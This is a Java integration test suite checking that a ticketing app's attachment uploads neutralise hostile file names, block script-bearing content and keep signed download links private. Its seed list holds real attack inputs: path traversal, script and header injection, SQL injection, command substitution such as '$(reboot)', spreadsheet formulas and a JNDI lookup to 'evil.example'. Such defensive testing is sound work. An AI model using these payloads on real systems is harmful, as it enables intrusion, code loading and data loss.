package io.ticketflow.web.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.ticketflow.IntegrationTest;
import io.ticketflow.Visitor;
import io.ticketflow.attachment.FileOffer;
import io.ticketflow.people.Employee;
import io.ticketflow.people.Role;
import io.ticketflow.process.Scene;
import io.ticketflow.shared.CaseId;
import io.ticketflow.ticket.Priority;
import io.ticketflow.ticket.RaiseTicket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.jdbc.core.simple.JdbcClient;

/** Files whose names and contents mean harm, and links that somebody would like to keep. */
@IntegrationTest
@ExtendWith(OutputCaptureExtension.class)
class HostileFilesTests {

    private static final Pattern UNSAFE = Pattern.compile("[\\p{Cntrl}\\p{Cf}\\p{Zl}\\p{Zp}/\\\\:*?\"<>|]");
    private static final Pattern RESERVED =
            Pattern.compile("(CON|PRN|AUX|NUL|(COM|LPT)[0-9¹²³])( *\\..*)?", Pattern.CASE_INSENSITIVE);

    /** In a name, each of these has once opened a hole somewhere. */
    private static final List<String> SEEDS = List.of(
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "....//....//x",
            "/etc/shadow",
            "C:\\autoexec.bat",
            "\\\\host\\share\\x",
            "%2e%2e%2fx",
            "..%c0%af..%c0%afx",
            "~/.ssh/authorized_keys",
            ".htaccess",
            "con",
            "NUL.txt",
            "aux.html",
            "COM1",
            "lpt9.pdf",
            "a\u0000.png",
            "a\r\nContent-Type: text/html\r\n\r\n<script>",
            "report\u202Efdp.exe",
            "\u2066a\u2069.txt",
            "a\u200Bb.txt",
            "\uFEFFbom.txt",
            "<script>alert(1)</script>.html",
            "\"><img src=x onerror=alert(1)>.svg",
            "'><svg onload=alert(1)>",
            "javascript:alert(1)",
            "a\"; filename=\"evil.exe",
            "a; filename*=UTF-8''evil.exe",
            "${jndi:ldap://evil.example/x}",
            "#{7*7}.txt",
            "${7*7}.txt",
            "__${7*7}__::.x",
            "{{7*7}}.txt",
            "'; drop table attachment; --",
            "$(reboot).txt",
            "`reboot`.txt",
            "|reboot",
            "-rf",
            "--help",
            "=1+1.csv",
            "@SUM(A1).csv",
            "a?versionId=1",
            "a#fragment",
            "a&b=c",
            "a+b%20c.txt",
            "   .txt",
            "...",
            "trailing. . .",
            "x".repeat(250),
            "ü".repeat(120) + ".pdf",
            "e\u0301.txt");

    /** How a name is dressed up: as it is, as a program, doubled, and with marks of right-to-left writing. */
    private static final List<String> DRESSES = List.of("%s", "%s.exe", "x/%s", "\u202E%s\u202C");

    @Autowired
    Scene scene;

    @Autowired
    JdbcClient jdbc;

    private static Stream<String> names() {
        return DRESSES.stream()
                .flatMap(dress -> SEEDS.stream().map(seed -> dress.replace("%s", seed)))
                .map(name -> name.length() > 255 ? name.substring(0, 255) : name);
    }

    @Test
    void twoHundredHostileNamesAllEndInTheFolderOfTheCase() {
        Visitor user = Visitor.signedInAs("user");
        List<String> names = names().toList();
        assertThat(names).hasSize(200);

        for (int from = 0; from < names.size(); from += 20) {
            CaseId ticket = scene.raised();
            Set<String> taken = new HashSet<>();
            for (String name : names.subList(from, from + 20)) {
                HttpResponse<String> answer = user.post(files(ticket), offer(name, 1, "text/html"));
                assertThat(answer.statusCode()).as(name + answer.body()).isEqualTo(201);
                String key = Visitor.json(answer).path("key").asText();
                assertThat(key).as(name).matches("(?s)\\d{4}/\\d{2}/\\d{2}/" + ticket + "/[^/]+");
                String safe = key.substring(key.lastIndexOf('/') + 1);
                assertThat(safe).as(name).doesNotContainPattern(UNSAFE).doesNotMatch(RESERVED);
                assertThat(safe)
                        .as(name)
                        .doesNotStartWith(".")
                        .doesNotEndWith(".")
                        .doesNotEndWith(" ");
                assertThat(taken.add(safe.toLowerCase(Locale.ROOT))).as(name).isTrue();
            }
        }
    }

    @Test
    void aNameThatIsTakenGetsANumber() {
        Visitor user = Visitor.signedInAs("user");
        CaseId ticket = scene.raised();

        List<String> keys = Stream.of("a/trace.log", "b\\TRACE.log", "\u202Etrace.log")
                .map(name -> Visitor.json(user.post(files(ticket), offer(name, 1, "text/plain"))))
                .map(permit -> permit.path("key").asText())
                .map(key -> key.substring(key.lastIndexOf('/') + 1))
                .toList();

        assertThat(keys).containsExactly("trace.log", "TRACE-2.log", "trace-3.log");
    }

    @Test
    void hostileNamesAreHarmlessOnThePageInTheDownloadAndInTheLetter() {
        Visitor user = Visitor.signedInAs("user");
        List<String> nastiest = List.of(
                "<script>alert(1)</script>.html",
                "\"><img src=x onerror=alert(1)>.svg",
                "a\"; filename=\"evil.exe",
                "a\r\nSet-Cookie: x=y\r\n.txt",
                "report\u202Efdp.exe",
                "${7*7} #{7*7} [[${7*7}]].txt");
        Employee reporter = scene.sample("user");
        CaseId ticket = scene.lifecycle()
                .raise(
                        new RaiseTicket("EXP", "Hostile files", "See the names.", Priority.LOW),
                        nastiest.stream()
                                .map(name -> new FileOffer(name, 1L, "text/html", null))
                                .toList(),
                        reporter)
                .caseId();
        List<String> ids = jdbc.sql("select id::text from attachment where case_id = ? order by safe_name")
                .param(ticket.value())
                .query(String.class)
                .list();
        ids.forEach(id ->
                upload(user, ticket, Visitor.json(user.post(files(ticket) + "/" + id + "/link", Map.of())), "x"));

        String page = user.open("/tickets/" + ticket).body();
        assertThat(page)
                .contains("&lt;script&gt;alert(1)&lt;/script&gt;.html", "${7*7} #{7*7} [[${7*7}]].txt")
                .doesNotContain("<script>alert", "<img src=x", "onerror=alert(1)>", "\u202E", "Set-Cookie: x=y\r\n");
        for (String id : ids) {
            HttpResponse<String> file = download(user, ticket, id);
            assertThat(file.headers().allValues("content-disposition"))
                    .singleElement()
                    .asString()
                    .matches(
                            "attachment; filename=\"[^\"<>\\p{Cntrl}]+\"; filename\\*=UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]+");
            assertThat(file.headers().firstValue("set-cookie")).isEmpty();
            assertThat(file.headers().firstValue("content-type")).contains("application/octet-stream");
        }
        List<Map<String, Object>> letters = jdbc.sql("select subject, html, text from letter where case_id = ?")
                .param(ticket.value())
                .query()
                .listOfRows();
        assertThat(letters).isNotEmpty().allSatisfy(letter -> {
            assertThat(String.valueOf(letter.get("html")))
                    .contains("&lt;script&gt;alert(1)&lt;/script&gt;.html", "${7*7}")
                    .doesNotContain("<script>", "<img src=x", "\u202E");
            assertThat(String.valueOf(letter.get("text"))).doesNotContain("\u202E", "\r\nSet-Cookie");
        });
    }

    @Test
    void pagesAndPicturesWithScriptsNeverOpenInTheBrowser() {
        Visitor user = Visitor.signedInAs("user");
        CaseId ticket = scene.raised();
        for (String type :
                List.of("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/pdf")) {
            String content = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>";
            JsonNode permit = Visitor.json(user.post(files(ticket), offer("page", content.length(), type)));
            upload(user, ticket, permit, content);

            HttpResponse<String> file = download(user, ticket, permit.path("id").asText());

            assertThat(file.body()).isEqualTo(content);
            assertThat(file.headers().firstValue("content-type")).as(type).contains("application/octet-stream");
            assertThat(file.headers().firstValue("content-disposition").orElseThrow())
                    .startsWith("attachment;");
        }
    }

    @Test
    void whoMaySeeTheTicketIsAskedAtEachClick() {
        Visitor.signedInAs("click");
        Employee reader = scene.sample("click");
        scene.giveRole(reader.id(), Role.SM1);
        Visitor sm1 = Visitor.signedInAs("click");
        Visitor user = Visitor.signedInAs("user");
        CaseId ticket = scene.raised();
        JsonNode permit = Visitor.json(user.post(files(ticket), offer("trace.log", 1, "text/plain")));
        upload(user, ticket, permit, "x");
        String file = files(ticket) + "/" + permit.path("id").asText();
        assertThat(sm1.open("/tickets/" + ticket).body()).contains(file);
        assertThat(sm1.get(file).statusCode()).isEqualTo(302);

        scene.takeRole(reader.id(), Role.SM1);

        assertThat(sm1.get(file).statusCode()).isEqualTo(404);
        assertThat(new Visitor().get(file).statusCode()).isEqualTo(401);
        assertThat(user.get("/api/tickets/" + scene.raised() + "/attachments/"
                                + permit.path("id").asText())
                        .statusCode())
                .as("under another ticket")
                .isEqualTo(404);
    }

    @Test
    void aTemporaryLinkStandsNowhereButInTheAnswerToTheClick(CapturedOutput output) {
        Visitor user = Visitor.signedInAs("user");
        CaseId ticket = scene.raised();
        JsonNode permit = Visitor.json(user.post(files(ticket), offer("trace.log", 1, "text/plain")));
        upload(user, ticket, permit, "x");

        HttpResponse<String> click =
                user.get(files(ticket) + "/" + permit.path("id").asText());

        assertThat(click.headers().firstValue("Location").orElseThrow()).contains("X-Amz-Signature");
        assertThat(click.headers().firstValue("Cache-Control").orElseThrow()).contains("no-store");
        assertThat(click.body()).isEmpty();
        for (String path :
                List.of("/tickets/" + ticket, "/api/tickets/" + ticket, "/api/tickets/" + ticket + "/timeline")) {
            assertThat(user.open(path).body()).as(path).doesNotContain("X-Amz-");
        }
        assertThat(jdbc.sql("select count(*) from letter where html like '%X-Amz-%' or text like '%X-Amz-%'")
                        .query(Long.class)
                        .single())
                .isZero();
        assertThat(jdbc.sql("select count(*) from timeline_event where facts::text like '%X-Amz-%'")
                        .query(Long.class)
                        .single())
                .isZero();
        assertThat(output).doesNotContain("X-Amz-Signature");
    }

    private static String files(CaseId ticket) {
        return "/api/tickets/" + ticket + "/attachments";
    }

    private static Map<String, Object> offer(String name, int size, String type) {
        Map<String, Object> offer = new HashMap<>();
        offer.put("fileName", name);
        offer.put("size", size);
        offer.put("contentType", type);
        return offer;
    }

    private static void upload(Visitor user, CaseId ticket, JsonNode permit, String content) {
        var put = HttpRequest.newBuilder(URI.create(permit.at("/upload/url").asText()))
                .PUT(BodyPublishers.ofString(content));
        List<String> headers = new ArrayList<>();
        permit.at("/upload/headers").fields().forEachRemaining(header -> {
            headers.add(header.getKey());
            headers.add(header.getValue().asText());
        });
        put.headers(headers.toArray(String[]::new));
        assertThat(user.send(put).statusCode()).isEqualTo(200);
        String completion = files(ticket) + "/" + permit.path("id").asText() + "/completion";
        assertThat(user.post(completion, Map.of()).statusCode()).isEqualTo(200);
    }

    private static HttpResponse<String> download(Visitor user, CaseId ticket, String id) {
        String link = user.get(files(ticket) + "/" + id)
                .headers()
                .firstValue("Location")
                .orElseThrow();
        return user.send(HttpRequest.newBuilder(URI.create(link)));
    }
}
